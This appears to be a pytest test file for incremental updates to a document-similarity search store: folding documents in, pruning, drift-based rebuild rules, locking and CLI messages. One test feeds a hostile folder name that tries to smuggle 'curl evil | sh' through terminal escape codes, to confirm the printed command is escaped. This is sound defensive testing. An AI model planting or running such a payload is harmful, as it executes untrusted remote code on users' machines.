"""Incremental updates: documents added, changed and deleted without retraining, written as a new
version that serving picks up, with the drift from a full build measured."""

import fcntl
import json
import shlex
from collections import Counter
from pathlib import Path

import numpy as np
import pytest

from conftest import wiki_sample_path
from function.article import indexed_text
from function.build import BuildOptions, build, corpus_lock, main as build_main
from function.records import Record, Skip
from function.sources import open_source
from function.store import Store, StoreError, StoreSet, current_version_dir, verify_files
from function.store import main as store_main
from function.tokens import tokenize
from function.update import RebuildRule, main as update_main, report, update


@pytest.fixture(scope="module")
def records():
    return [r for r in open_source(wiki_sample_path()) if isinstance(r, Record)]


def base_store(records, path, count=90, **options):
    final, _ = build([iter(records[:count])], path, BuildOptions(name=path.name, **options), progress=False)
    return Store(final)


def ids_of(store):
    return {d.id for d in store.docs(list(range(store.size)))}


def test_new_changed_and_deleted_documents_are_folded_in(records, tmp_path):
    before = base_store(records, tmp_path / "w")
    changed = Record(records[0].id, records[0].url, "Anarchism, rewritten", records[5].text + " extra words")
    result = update(tmp_path / "w", [iter(records[80:] + [changed])], delete_ids=[records[1].id], progress=False)

    assert (result.added, result.updated, result.deleted, result.unchanged) == (16, 1, 1, 10)
    after = Store(current_version_dir(tmp_path / "w"))
    assert after.path == result.version_dir and after.version != before.version
    verify_files(after.path, after.manifest["files"], full=True)
    assert after.size == 90 + 16 - 1 == after.manifest["documents"]
    assert ids_of(after) == ids_of(before) - {records[1].id} | {r.id for r in records[90:]}

    # documents that stayed keep their vectors; folded-in ones get what serving computes for their text,
    # in direction (their length is a full build's: test_a_folded_row_is_as_long_as_a_full_build_makes_it)
    for record in records[2:90:7]:
        old, new = before.row_for_id(record.id), after.row_for_id(record.id)
        assert np.array_equal(before.engines["lsi"].vectors[old], after.engines["lsi"].vectors[new])
    for record in records[90:] + [changed]:
        row = after.row_for_id(record.id)
        text = indexed_text(record.title, record.text, record.url)  # titled, as the builder reads it
        query = after.engines["lsi"].query_vector(after.terms(text))
        vector = after.engines["lsi"].vectors[row]
        assert np.allclose(vector / np.linalg.norm(vector), query, atol=1e-4)
        assert after.engines["tfidf"].search(after.terms(text), 1)[0].row == row
        assert after.docs([row])[0].title == record.title
    # the sparse engine's postings agree with its rows: a member's neighbours are found through both
    tfidf = after.engines["tfidf"]
    row = after.row_for_id(records[95].id)
    by_row, by_terms = tfidf.search_member(row, 3), tfidf.search(
        after.terms(indexed_text(records[95].title, records[95].text, records[95].url)), 4)[1:]
    assert [h.row for h in by_row] == [h.row for h in by_terms]
    assert [h.score for h in by_row] == pytest.approx([h.score for h in by_terms], abs=1e-5)
    # the vocabulary and the model are the full build's, shared rather than copied
    assert (after.path / "vocab.npy").stat().st_ino == (before.path / "vocab.npy").stat().st_ino


def test_a_store_built_without_titles_folds_documents_in_without_theirs(records, tmp_path):
    # stores built before titles were indexed (no index_titles in the manifest) read as they were built
    built = base_store(records, tmp_path / "w", index_titles=False)
    manifest = json.loads((built.path / "manifest.json").read_text())
    del manifest["parameters"]["index_titles"]  # as such a store's manifest is
    (built.path / "manifest.json").write_text(json.dumps(manifest))
    assert not Store(built.path).index_titles
    after = Store(update(tmp_path / "w", [iter(records[90:95])], progress=False).version_dir)
    for record in records[90:95]:
        vector = after.engines["lsi"].vectors[after.row_for_id(record.id)]
        query = after.engines["lsi"].query_vector(after.terms(record.text))
        assert np.allclose(vector / np.linalg.norm(vector), query, atol=1e-4)


def test_a_new_title_alone_is_a_change(records, tmp_path):
    # a store that does not index titles: the vectors stay the same, the title answers show does not
    base_store(records, tmp_path / "w", count=20, index_titles=False)
    retitled = Record(records[3].id, records[3].url, "Renamed: " + records[3].title, records[3].text)
    result = update(tmp_path / "w", [iter([retitled] + records[4:6])], progress=False)
    assert (result.added, result.updated, result.deleted, result.unchanged) == (0, 1, 0, 2)
    after = Store(result.version_dir)
    assert after.docs([after.row_for_id(records[3].id)])[0].title == "Renamed: " + records[3].title
    assert after.size == 20


def test_the_manifest_counts_what_was_folded_in_until_a_full_build(records, tmp_path):
    base_store(records, tmp_path / "w", count=60)
    update(tmp_path / "w", [iter(records[60:80])], progress=False)
    result = update(tmp_path / "w", [iter(records[80:90])], delete_ids=[records[2].id], progress=False)
    manifest = Store(current_version_dir(tmp_path / "w")).manifest["update"]
    since = manifest["since_full_build"]
    assert (since["updates"], since["added"], since["updated"], since["deleted"]) == (2, 30, 0, 1)
    assert manifest["full_build"]["documents"] == 60
    drift = manifest["drift"]
    assert drift["folded_share"] == pytest.approx(30 / 89, abs=1e-3)
    assert drift["deleted_share"] == pytest.approx(1 / 60, abs=1e-3)
    assert 0 < drift["oov_share"] < 1 and 0 < drift["lsi_fit"]["lsi"] <= 1
    # the full build's own documents lack the words it pruned: that share is the reference
    coverage = Store(current_version_dir(tmp_path / "w")).manifest["token_coverage"]
    assert manifest["base_oov_share"] == pytest.approx(1 - coverage, abs=1e-4)
    assert drift["oov_excess"] == pytest.approx(max(0, drift["oov_share"] - (1 - coverage)), abs=1e-3)
    assert manifest["base_lsi_fit"]["lsi"] > drift["lsi_fit"]["lsi"]  # new documents fit the space less
    assert manifest["rebuild_due"] and any("folded in" in r for r in manifest["rebuild_reasons"])
    assert result.rebuild_reasons == manifest["rebuild_reasons"]

    build([iter(records[:90])], tmp_path / "w", BuildOptions(name="w"), progress=False)
    assert "update" not in Store(current_version_dir(tmp_path / "w")).manifest


def test_the_rebuild_rule():
    calm = {"folded_share": 0.05, "deleted_share": 0.01, "oov_share": 0.42, "oov_excess": 0.02,
            "lsi_fit_ratio": 0.95}
    rule = RebuildRule()
    assert rule.reasons(calm) == []
    assert len(rule.reasons({**calm, "oov_excess": 0.3, "lsi_fit_ratio": 0.5})) == 2
    assert rule.reasons({**calm, "oov_excess": None, "lsi_fit_ratio": None}) == []
    assert len(rule.reasons({**calm, "folded_share": 0.3, "deleted_share": 0.3})) == 2
    at_the_limits = {**calm, "folded_share": 0.2, "deleted_share": 0.2, "oov_excess": 0.1, "lsi_fit_ratio": 0.85}
    assert rule.reasons(at_the_limits) == []  # "more than" the limits: at them, no rebuild is due yet
    # the excess is a difference of shares: said in points ("46%, 16% more" had read as a ratio)
    assert rule.reasons({**calm, "oov_share": 0.463, "oov_excess": 0.157}) == [
        "46% of the folded-in words are not in the vocabulary, 16 points more than in the full build's corpus "
        "(limit 10 points)"]
    assert "the folded-in words' unknown share exceeds the full build's by more than 10 points," in rule.describe()
    # just past a limit, a figure has the decimals that tell it from the limit: "20% of the documents were
    # folded in (limit 20%)" had read as a rebuild due at the limit
    just_past = {**calm, "folded_share": 0.204, "deleted_share": 0.2003, "oov_share": 0.304, "oov_excess": 0.104,
                 "lsi_fit_ratio": 0.847}
    assert rule.reasons(just_past) == [
        "20.4% of the documents were folded in (limit 20%)",
        "20.03% of the full build's documents were deleted (limit 20%)",
        "30% of the folded-in words are not in the vocabulary, 10.4 points more than in the full build's corpus "
        "(limit 10 points)",
        "the LSI space captures 0.847 of the folded documents' weight relative to the full build's (limit 0.85)"]


def test_nothing_new_writes_no_version(records, tmp_path):
    before = base_store(records, tmp_path / "w", count=30)
    result = update(tmp_path / "w", [iter(records[:30])], progress=False)
    assert result.version_dir is None and result.unchanged == 30
    assert current_version_dir(tmp_path / "w") == before.path
    assert sorted(p.name for p in (tmp_path / "w").iterdir() if not p.name.startswith(".")) == \
        ["CURRENT", before.path.name]


def test_an_update_after_a_rollback_keeps_the_version_it_was_made_from(records, tmp_path):
    # the README's rollback points CURRENT at the version before; an update then deleted that one,
    # still served until the workers' next look at CURRENT, and kept the version rolled back from
    first = base_store(records, tmp_path / "w", count=30)
    second = base_store(records, tmp_path / "w", count=40)
    (tmp_path / "w" / "CURRENT").write_text(first.path.name + "\n")
    result = update(tmp_path / "w", [iter(records[30:32])], progress=False)
    assert result.version_dir is not None and result.added == 2
    assert first.path.exists() and Store(first.path).size == 30
    assert not second.path.exists()  # the version rolled back from is the one past --keep-versions


def test_words_the_vocabulary_lacks_are_skipped_and_counted(records, tmp_path):
    base_store(records, tmp_path / "w", count=30)
    unknown = Record("new-1", "https://example.com/new", "New", "zzyzx qwghlm xyzzy frobnicate")
    result = update(tmp_path / "w", [iter(records[30:32] + [unknown])], progress=False)
    assert result.added == 2 and result.skipped == 1
    skipped = [json.loads(line) for line in open(result.version_dir / "skipped.jsonl")]
    assert skipped[0]["where"] == "new-1" and "vocabulary" in skipped[0]["reason"]
    assert Store(result.version_dir).row_for_id("new-1") is None


class Listing:
    """A source like a crawl: records, then whether its listing was complete."""

    def __init__(self, items, complete=True):
        self.items = items
        self.listing_complete = complete

    def __iter__(self):
        return iter(self.items)


def test_prune_deletes_what_the_input_lacks_but_keeps_pages_that_failed_for_now(records, tmp_path):
    base_store(records, tmp_path / "w", count=20)
    failing = Skip(records[15].url, "The page answered HTTP 503", id=records[15].id, transient=True)
    gone = Skip(records[16].url, "The page answered HTTP 404", id=records[16].id)

    incomplete = update(tmp_path / "w", [Listing(records[:15] + [failing, gone], complete=False)], prune=True,
                        progress=False)
    assert incomplete.version_dir is None and "not pruned" in incomplete.notes[0]

    result = update(tmp_path / "w", [Listing(records[:15] + [failing, gone])], prune=True, progress=False)
    assert result.deleted == 4  # 16..19: gone, or no longer listed
    assert ids_of(Store(result.version_dir)) == {r.id for r in records[:16]}


def test_a_prune_of_most_of_the_store_is_refused_unless_allowed(records, tmp_path):
    # a redesign the extractor cannot read: every page but three skipped as having no text
    base_store(records, tmp_path / "w", count=20)
    unreadable = [Skip(r.url, "no article text found on the page", id=r.id) for r in records[3:20]]
    refused = update(tmp_path / "w", [Listing(records[:3] + unreadable)], prune=True, progress=False)
    assert refused.version_dir is None and refused.deleted == 0
    assert "not pruned: it would delete 17 of the 20 documents (85%), more than --max-prune 50%" in refused.notes[0]
    # no version, so no skipped.jsonl: the skips it says to see are said (their file had gone with the update's)
    said = report(refused, tmp_path / "w", RebuildRule())
    assert f"3 documents unchanged, 17 skipped: {records[3].url}: no article text found on the page; " in said
    allowed = update(tmp_path / "w", [Listing(records[:3] + unreadable)], prune=True, max_prune_share=1.0,
                     progress=False)
    assert allowed.deleted == 17 and ids_of(Store(allowed.version_dir)) == {r.id for r in records[:3]}


def test_an_input_line_that_cannot_be_read_stops_the_prune_not_the_update(records, tmp_path):
    # the line may have been any stored document: pruning had deleted the one it held
    base_store(records, tmp_path / "w", count=20)
    lines = [json.dumps({"id": r.id, "url": r.url, "title": r.title, "text": r.text}) for r in records[:19]]
    changed = json.dumps({"id": records[0].id, "url": records[0].url, "title": "Changed", "text": records[20].text})
    (tmp_path / "in.jsonl").write_text("\n".join([changed] + lines[1:] + ['{"id": "' + records[19].id + '", "url"']))
    result = update(tmp_path / "w", [open_source(tmp_path / "in.jsonl")], prune=True, progress=False)
    assert result.updated == 1 and result.deleted == 0 and "not pruned: 1 input record(s)" in result.notes[0]
    assert ids_of(Store(result.version_dir)) == {r.id for r in records[:20]}


def test_a_document_listed_for_deletion_is_not_folded_in_from_the_input(records, tmp_path):
    # the deletion list wins over the input, for a stored document (changed in the input) and a new one
    base_store(records, tmp_path / "w", count=20)
    changed = Record(records[3].id, records[3].url, records[3].title, records[30].text)
    result = update(tmp_path / "w", [iter([changed] + records[20:22])], delete_ids=[records[3].id, records[20].id],
                    progress=False)
    assert (result.added, result.updated, result.deleted, result.skipped) == (1, 0, 1, 2)
    assert result.not_found == [records[20].id]
    assert ids_of(Store(result.version_dir)) == {r.id for r in records[:22]} - {records[3].id, records[20].id}


def _jsonl(records, path):
    with open(path, "w") as f:
        for r in records:
            f.write(json.dumps({"id": r.id, "url": r.url, "title": r.title, "text": r.text}) + "\n")
    return str(path)


def test_an_update_does_not_replace_a_version_made_live_while_it_ran(records, tmp_path):
    # a rollback that lands meanwhile is what the operator chose: switching to the update's version had undone it
    first = base_store(records, tmp_path / "w", count=20).path
    base_store(records, tmp_path / "w", count=30)

    def source_read_while_rolled_back():
        yield from records[30:32]
        (tmp_path / "w" / "CURRENT").write_text(first.name + "\n")

    with pytest.raises(StoreError, match="got a new version while this update ran"):
        update(tmp_path / "w", [source_read_while_rolled_back()], progress=False)
    assert current_version_dir(tmp_path / "w") == first
    assert not [p.name for p in (tmp_path / "w").iterdir() if p.name.startswith(".tmp-")]


def test_a_build_is_refused_while_an_update_runs_and_an_update_while_a_build_runs(records, tmp_path, capsys):
    """Two at once each pointed CURRENT at their own version and pruned: one could delete the
    other's new version, and CURRENT then named it (the corpus served no more)."""
    base_store(records, tmp_path / "w", count=20)
    corpus = _jsonl(records[:30], tmp_path / "all.jsonl")
    refused = []

    def source_read_while_a_build_starts():
        yield from records[20:22]
        refused.append(build_main(["--input", corpus, "--out", str(tmp_path / "w"), "--quiet"]))

    result = update(tmp_path / "w", [source_read_while_a_build_starts()], progress=False)
    assert refused == [1] and result.added == 2
    assert f"build failed: another build or update of {tmp_path / 'w'} is running" in capsys.readouterr().err
    assert Store(current_version_dir(tmp_path / "w")).size == 22

    more = _jsonl(records[40:42], tmp_path / "more.jsonl")

    def source_read_while_an_update_starts():
        yield from records[:30]
        refused.append(update_main([str(tmp_path / "w"), "--input", more, "--quiet"]))

    final, _ = build([source_read_while_an_update_starts()], tmp_path / "w", BuildOptions(name="w"), progress=False)
    assert refused == [1, 1]
    assert f"update failed: another build or update of {tmp_path / 'w'} is running" in capsys.readouterr().err
    assert current_version_dir(tmp_path / "w") == final and Store(final).size == 30


def test_a_second_build_is_refused_while_the_first_runs_even_the_first_build(records, tmp_path, capsys):
    corpus = _jsonl(records[:20], tmp_path / "in.jsonl")
    out = tmp_path / "w"
    out.mkdir()  # no CURRENT yet: the lock is taken all the same
    with corpus_lock(out):  # as the first build holds it
        assert build_main(["--input", corpus, "--out", str(out), "--quiet"]) == 1
    said = capsys.readouterr().err
    assert said == f"build failed: another build or update of {out} is running: run this one when it is done\n"
    assert sorted(p.name for p in out.iterdir()) == [".update.lock"]  # nothing of it was written
    assert build_main(["--input", corpus, "--out", str(out), "--quiet"]) == 0  # once the first is done
    with corpus_lock(out):
        assert build_main(["--input", corpus, "--out", str(out), "--quiet"]) == 1
        assert update_main([str(out), "--input", corpus, "--quiet"]) == 1
    assert capsys.readouterr().err.count("is running: run this one when it is done") == 2
    # the lock file is no version: a build prunes around it and a store set does not list it
    for count in (10, 12):
        build([iter(records[:count])], out, BuildOptions(name="w", keep_versions=2), progress=False)
    assert sorted(p.name for p in out.iterdir() if not p.name.startswith("v")) == [".update.lock", "CURRENT"]
    assert len([p for p in out.iterdir() if p.name.startswith("v")]) == 2
    assert StoreSet(tmp_path, check_every=0).get("w").size == 12


def test_a_failed_first_build_leaves_no_folder_and_a_folder_that_was_there_as_it_was(records, tmp_path, capsys):
    # a first build that read no document had left its --out (and the folders above it that it made) holding
    # .update.lock alone: a half-made corpus for a retry and a store set to look at
    empty = _jsonl([], tmp_path / "empty.jsonl")
    out = tmp_path / "stores" / "site" / "w"
    assert build_main(["--input", empty, "--out", str(out), "--quiet"]) == 1
    assert "build failed: no usable documents in the input" in capsys.readouterr().err
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty.jsonl"]

    def broken():  # the library's build, stopped by its input
        yield from records[:10]
        raise OSError("disk went away")

    with pytest.raises(OSError, match="disk went away"):
        build([broken()], out, BuildOptions(name="w"), progress=False)
    assert not (tmp_path / "stores").exists()
    # a folder that was there keeps what it held, the lock released
    out.mkdir(parents=True)
    (out / "notes.txt").write_text("mine")
    assert build_main(["--input", empty, "--out", str(out), "--quiet"]) == 1
    assert sorted(p.name for p in out.iterdir()) == [".update.lock", "notes.txt"]
    assert build_main(["--input", _jsonl(records[:20], tmp_path / "in.jsonl"), "--out", str(out), "--quiet"]) == 0
    assert Store(current_version_dir(out)).size == 20


def test_a_lock_taken_on_a_file_unlinked_since_it_was_opened_is_refused(tmp_path, monkeypatch):
    # a failed first build unlinks its lock file: a build that had opened it before would hold a lock nobody
    # else sees, and a third would lock the new file beside it (two builds at once)
    out = tmp_path / "w"
    out.mkdir()
    flock = fcntl.flock

    def after_a_failed_first_build(fd, operation):  # between this build's open and its flock
        (out / ".update.lock").unlink()
        (out / ".update.lock").touch()  # the third build's
        monkeypatch.setattr(fcntl, "flock", flock)
        return flock(fd, operation)

    monkeypatch.setattr(fcntl, "flock", after_a_failed_first_build)
    with pytest.raises(StoreError, match="another build or update"):
        with corpus_lock(out):
            pass
    with corpus_lock(out):  # a lock on the file that is there is taken
        pass


def test_a_serving_store_set_picks_up_the_update(records, tmp_path, caplog):
    base_store(records, tmp_path / "w", count=40)
    stores = StoreSet(tmp_path, check_every=0)
    rewritten = Record(records[0].id, records[0].url, "Now about the Moon", records[[r.title for r in records]
                                                                                  .index("Apollo 11")].text)
    first = stores.get("w")
    assert first.docs([first.engines["lsi"].search(first.terms("apollo moon landing"), 1)[0].row])[0].id != \
        records[0].id
    result = update(tmp_path / "w", [iter([rewritten])], progress=False)
    with caplog.at_level("INFO", logger="related.store"):
        second = stores.get("w")
    assert second is not first
    # an operator sees it go live
    assert f"corpus w: serving {result.version_dir.name} (40 documents), was {first.path.name}" in caplog.text
    best = second.docs([second.engines["tfidf"].search(second.terms("apollo moon landing lunar module"), 1)[0].row])
    assert best[0].id == records[0].id and best[0].title == "Now about the Moon"
    assert first.docs([0])  # the old version still answers requests in flight


def test_a_page_asked_for_again_after_a_new_build_is_read_by_its_vocabulary(records, tmp_path, function_env,
                                                                             pages):
    """A fetched page's words are kept by store version: a new build numbers its words anew, and the
    page's words as the old version numbered them had matched it by other words in the new one."""
    from conftest import make_client

    build([iter(records[:50])], tmp_path / "w", BuildOptions(name="w"), progress=False)
    env = {**function_env, "MODEL_STORE": str(tmp_path), "DEFAULT_CORPUS": "w", "STORE_CHECK_SECONDS": "0"}
    client = make_client(env)
    url = pages.add("/read-by-two-versions.html", pages.body("/moon-landing.html"))
    first = client.get("/", query_string={"url": url}).get_json()
    build([iter(records[50:])], tmp_path / "w", BuildOptions(name="w"), progress=False)  # other words
    again = client.get("/", query_string={"url": url}).get_json()
    assert again["store_version"] != first["store_version"] and again["page"]["cached"] is True
    fresh = make_client(env).get("/", query_string={"url": url}).get_json()  # never read it by the old one
    assert again["results"] and [r["id"] for r in again["results"]] == [r["id"] for r in fresh["results"]]


def test_a_store_with_an_ann_index_is_updated(records, tmp_path):
    before = base_store(records, tmp_path / "w", count=70, ann="on", ann_dims=8, ann_candidates=20)
    result = update(tmp_path / "w", [iter(records[70:])], delete_ids=[records[0].id], progress=False)
    after = Store(result.version_dir)
    assert after.engines["lsi"].ann is not None and before.engines["lsi"].ann is not None
    # the rebuilt graph keeps the built one's shape: the same leading dimensions, re-ranked
    assert after.engines["lsi"].ann.ndim == before.engines["lsi"].ann.ndim == 8
    assert after.manifest["engines"]["lsi"]["ann"] == before.manifest["engines"]["lsi"]["ann"]
    lsi = after.engines["lsi"]
    # every document of the new version is in the graph under its new row (rows were renumbered)
    assert len(lsi.ann) == after.size and all(lsi.ann.contains(row) for row in range(after.size))
    # and found through it: an approximate index (its graph is built by several threads, so not
    # the same twice) finds nearly every new document's nearest neighbour
    found = 0
    for record in records[70:]:
        row = after.row_for_id(record.id)
        scores = lsi.vectors @ lsi.vectors[row]
        scores[row] = -np.inf
        found += lsi.search_member(row, 1)[0].row == int(np.argmax(scores))
    assert found >= 0.8 * len(records[70:])


@pytest.mark.parametrize("tool, argv, said", [
    (build_main, ["--input", "in.jsonl", "--ouput", "model_store/w"], "unrecognized arguments: --ouput model_store/w"),
    (build_main, ["--ouput", "model_store/w"], "unrecognized arguments: --ouput model_store/w"),
    (update_main, ["--input", "in.jsonl", "--prnue"], "unrecognized arguments: --prnue"),
    (store_main, ["--al"], "unrecognized arguments: --al"),
    (build_main, ["--input", "in.jsonl"], "the following arguments are required: --out")])  # no typo: as before
def test_a_mistyped_option_is_said_before_a_missing_one(tool, argv, said, capsys):
    # argparse checks the required arguments first: "--ouput x" had been told only that --out is required
    with pytest.raises(SystemExit) as stopped:
        tool(argv)
    assert stopped.value.code == 2
    assert capsys.readouterr().err.splitlines()[-1].endswith(f": error: {said}")


def test_a_bad_value_s_usage_line_and_help_show_the_required_options_as_required(capsys):
    # the look for unknown arguments, which takes the required ones as optional, had said them
    with pytest.raises(SystemExit) as stopped:
        build_main(["--lsi-dims", "x"])
    err = capsys.readouterr().err
    assert stopped.value.code == 2 and "argument --lsi-dims: invalid int value: 'x'" in err
    assert " --input PATH --out OUT " in " ".join(err.split()) and "[--out OUT]" not in err
    with pytest.raises(SystemExit) as stopped:
        build_main(["--help"])
    out = capsys.readouterr().out
    assert stopped.value.code == 0 and " --input PATH --out OUT " in " ".join(out.split())
    assert "[--out OUT]" not in out and out.count("usage:") == 1


def test_update_command_line(records, tmp_path, capsys):
    base_store(records, tmp_path / "w", count=50)
    corpus = tmp_path / "new.jsonl"
    with open(corpus, "w") as f:
        for r in records[50:60]:
            f.write(json.dumps({"id": r.id, "url": r.url, "title": r.title, "text": r.text}) + "\n")
    deletions = tmp_path / "gone.txt"
    deletions.write_text(f"# retired\n{records[4].id}\n")
    assert update_main([str(tmp_path / "w"), "--input", str(corpus), "--delete", str(deletions), "--quiet"]) == 0
    said = capsys.readouterr().err
    assert "10 added, 0 changed, 1 deleted" in said and "drift since the full build" in said
    assert "full rebuild due" in said or "full rebuild not due yet" in said
    assert Store(current_version_dir(tmp_path / "w")).size == 59

    assert update_main([str(tmp_path / "w"), "--input", str(corpus), "--quiet"]) == 0
    assert "no change" in capsys.readouterr().err
    assert update_main([str(tmp_path / "nope"), "--input", str(corpus), "--quiet"]) == 1
    assert "nope holds no store (no CURRENT file)" in capsys.readouterr().err  # it had named the lock file
    with pytest.raises(SystemExit):
        update_main([str(tmp_path / "w")])
    with pytest.raises(SystemExit):
        update_main([str(tmp_path / "w"), "--input", str(corpus), "--prune", "--max-prune", "150"])
    assert "--max-prune must be a percentage from 0 to 100, not 150" in capsys.readouterr().err
    # the listing holds 10 of the 59 documents: the prune is refused, then allowed
    assert update_main([str(tmp_path / "w"), "--input", str(corpus), "--prune", "--quiet"]) == 0
    assert "not pruned: it would delete 49 of the 59 documents (83%)" in capsys.readouterr().err
    assert update_main([str(tmp_path / "w"), "--input", str(corpus), "--prune", "--max-prune", "100", "--quiet"]) == 0
    assert Store(current_version_dir(tmp_path / "w")).size == 10
    # a prune's inputs are the whole corpus: said plainly (it had read "(which this update's inputs are (--prune))")
    said = capsys.readouterr().err
    assert "Rebuild with this update's inputs, the whole corpus as --prune reads them, and the options" in said
    assert f"\n  python -m function.build --input {shlex.quote(str(corpus))} --out " in said


def test_a_rebuild_due_is_said_with_the_options_the_store_was_built_with(records, tmp_path, capsys):
    """A French user ran the command the update gave, without --stopwords and --stem: the new
    store had lost them, unsaid. The command given now builds the store as it was built."""
    from function.build import TokenizerOptions, main as build_main

    tokenizer = TokenizerOptions(stopwords="english", stem="english", min_len=2)
    base_store(records, tmp_path / "w", count=40, tokenizer=tokenizer, lsi_dims=30, index_titles=False)
    corpus = tmp_path / "all.jsonl"
    corpus.write_text("".join(json.dumps({"id": r.id, "url": r.url, "title": r.title, "text": r.text}) + "\n"
                              for r in records[:90]))
    assert update_main([str(tmp_path / "w"), "--input", str(corpus), "--format", "jsonl", "--quiet"]) == 0
    said = capsys.readouterr().err
    # the command on a line of its own, to be copied whole (it had ended mid-sentence: "Run CMD with ...")
    lines = said.splitlines()
    due = next(i for i, line in enumerate(lines) if line.startswith("full rebuild due: "))
    assert lines[due].endswith("and the options the store was built with:")
    command = lines[due + 1].strip()
    assert command.startswith("python -m function.build ") and lines[due + 1].startswith("  ")
    assert "--stopwords english" in command and "--stem english" in command and "--no-index-titles" in command
    # the update's own inputs and source options, not a placeholder ("--input CORPUS") to fill in
    assert f"--input {shlex.quote(str(corpus))} " in command and "--format jsonl" in command
    assert "CORPUS" not in command and "if these inputs are not all of it" in said
    rebuilt = tmp_path / "again"
    arguments = shlex.split(command.replace(str(tmp_path / "w"), str(rebuilt)))[3:]  # after "python -m function.build"
    assert build_main(arguments + ["--quiet"]) == 0
    before = Store(current_version_dir(tmp_path / "w")).manifest
    after = Store(current_version_dir(rebuilt)).manifest
    assert after["tokenizer"] == before["tokenizer"]
    assert after["parameters"] == before["parameters"]


def test_rebuild_if_due_builds_the_whole_corpus_in_place_of_a_drifted_update(records, tmp_path, capsys):
    """Folded-in pages were in 12-13 of a 30-page site's 32 top-5 lists, 5-6 after a full build: a
    folded vector keeps only what the old model knows, and at unit length that weighs more. With
    --rebuild-if-due a prune whose drift makes a rebuild due builds the store instead."""
    before = base_store(records, tmp_path / "w", count=40, lsi_dims=30, index_titles=False)
    corpus = _jsonl(records[:60], tmp_path / "all.jsonl")
    assert update_main([str(tmp_path / "w"), "--input", corpus, "--prune", "--rebuild-if-due", "--quiet"]) == 0
    said = capsys.readouterr().err
    assert "rebuilding" in said and "in place of an update of 20 added, 0 changed, 0 deleted, 40 unchanged" in said
    assert "full rebuild due: " in said and "Building it now from this update's inputs" in said
    after = Store(current_version_dir(tmp_path / "w"))
    assert f"built {after.path}: 60 documents" in said
    # a full build with the options the store was built with, and no update version made on the way
    assert after.manifest["builder"].startswith("function.build") and "update" not in after.manifest
    assert after.manifest["parameters"] == before.manifest["parameters"]
    assert sorted(p.name for p in (tmp_path / "w").iterdir() if p.name.startswith("v")) == \
        sorted([before.path.name, after.path.name])
    again = base_store(records, tmp_path / "again", count=60, lsi_dims=30, index_titles=False)
    assert np.allclose(after.engines["lsi"].vectors, again.engines["lsi"].vectors, atol=1e-5)
    assert np.array_equal(after.engines["tfidf"].doc_weights, again.engines["tfidf"].doc_weights)

    # nothing new: no rebuild, as without the option
    assert update_main([str(tmp_path / "w"), "--input", corpus, "--prune", "--rebuild-if-due", "--quiet"]) == 0
    assert "no change" in capsys.readouterr().err
    # the inputs must be the whole corpus, and cannot be told what to leave out
    for refused in ([], ["--prune", "--delete", corpus]):
        with pytest.raises(SystemExit) as exit_:
            update_main([str(tmp_path / "w"), "--input", corpus, "--rebuild-if-due", *refused])
        assert exit_.value.code == 2
    said = capsys.readouterr().err
    assert "--rebuild-if-due needs --prune: a rebuild is built from the inputs alone" in said
    assert "--rebuild-if-due rebuilds from the inputs alone, which --delete cannot take from" in said


def test_rebuild_if_due_folds_in_when_the_inputs_are_not_known_to_be_the_whole_corpus(records, tmp_path):
    failing = Skip(records[15].url, "The page answered HTTP 503", id=records[15].id, transient=True)
    for n, (listing, why) in enumerate([
            (Listing(records[:40], complete=False), "the inputs were not read as the whole corpus"),
            (Listing(records[:15] + [failing] + records[16:40]), "1 stored page(s) failed for now")]):
        base_store(records, tmp_path / f"w{n}", count=20)
        result = update(tmp_path / f"w{n}", [listing], prune=True, progress=False, rebuild_if_due=True)
        assert result.rebuild_reasons and not result.rebuild and result.version_dir is not None
        assert any(note.startswith(f"not rebuilt (--rebuild-if-due): {why}") for note in result.notes)
    assert Store(result.version_dir).row_for_id(records[15].id) is not None  # a rebuild would have lost it
    # the rebuild, when due, is the caller's to run (main()'s): the library writes nothing
    before = base_store(records, tmp_path / "w", count=20)
    result = update(tmp_path / "w", [Listing(records[:40])], prune=True, progress=False, rebuild_if_due=True)
    assert result.rebuild and result.version_dir is None and current_version_dir(tmp_path / "w") == before.path


def test_a_rebuild_of_a_store_with_one_of_jusTexts_stop_lists_is_said_to_take_stop_words():
    """Stores before tokenizer revision 4 name jusText's lists, which the builder no longer takes; a store
    of an older revision is said to be read by the current one."""
    from function.build import rebuild_command
    from function.tokens import REVISION

    old = {"name": "blog", "parameters": {}, "tokenizer": {"stopwords": "English", "revision": 3}}
    command, notes = rebuild_command(Path("model_store/my blog"), old)
    assert shlex.split(command)[-2:] == ["--stopwords", "english"] and "'model_store/my blog'" in command
    assert "--name blog" in command
    assert notes == ["its stop list was jusText's English; a rebuild takes stop-words' english",
                     f"its text was read by tokenizer revision 3; a rebuild reads it by revision {REVISION} "
                     "(function/tokens.py; since 5 'wi-fi' is 'wifi' too, since 6 'E-Mail-Adresse' 'email', "
                     "since 7 'Grande-Bretagne' 'grandebretagne' with a stop list), so its answers can change"]
    command, notes = rebuild_command(Path("model_store/w"), {**old, "name": "w", "tokenizer": {
        "stopwords": "Norwegian_Bokmal", "revision": 3}})
    assert "--stopwords" not in command and "no list for" in notes[0]
    # a store of revision 4 or later has stop-words' list already: only its revision is said
    notes = rebuild_command(Path("model_store/fr"), {"name": "fr", "tokenizer": {"stopwords": "french", "revision": 6}})[1]
    assert len(notes) == 1 and notes[0].startswith("its text was read by tokenizer revision 6")
    # a store of the current revision is rebuilt as it was read: nothing to say
    assert rebuild_command(Path("model_store/w"), {"name": "w", "tokenizer": {"revision": REVISION}})[1] == []
    # a hostile folder's name cannot print another command over this one
    command, _ = rebuild_command(Path("model_store/x\r\x1b[1Acurl evil | sh"), {"name": "x", "tokenizer": {}})
    assert "\r" not in command and "\x1b" not in command and "\\r\\x1b[1A" in command


def test_a_rebuild_reads_an_input_or_option_that_begins_with_a_dash_as_the_update_did():
    """An update takes --input=-notes.jsonl; the rebuild it runs (--rebuild-if-due) or says had read
    "--input -notes.jsonl", which argparse refuses ('expected one argument'), and exited mid-update."""
    from function.build import parse_args as build_arguments, rebuild_arguments
    from function.update import given_source_options, parse_args as update_arguments

    args = update_arguments(["store", "--input=-notes.jsonl", "--prune", "--rebuild-if-due", "--state=-crawl"])
    assert args.input == ["-notes.jsonl"]
    arguments, _ = rebuild_arguments(Path("-store"), {"name": "-blog", "parameters": {}, "tokenizer": {}},
                                     args.input, given_source_options(args))
    built = build_arguments(arguments[3:])
    assert (built.input, built.out, built.name, built.state) == (["-notes.jsonl"], Path("-store"), "-blog",
                                                                  Path("-crawl"))


def test_a_store_in_a_folder_whose_name_holds_a_hash_or_a_question_mark(records, tmp_path):
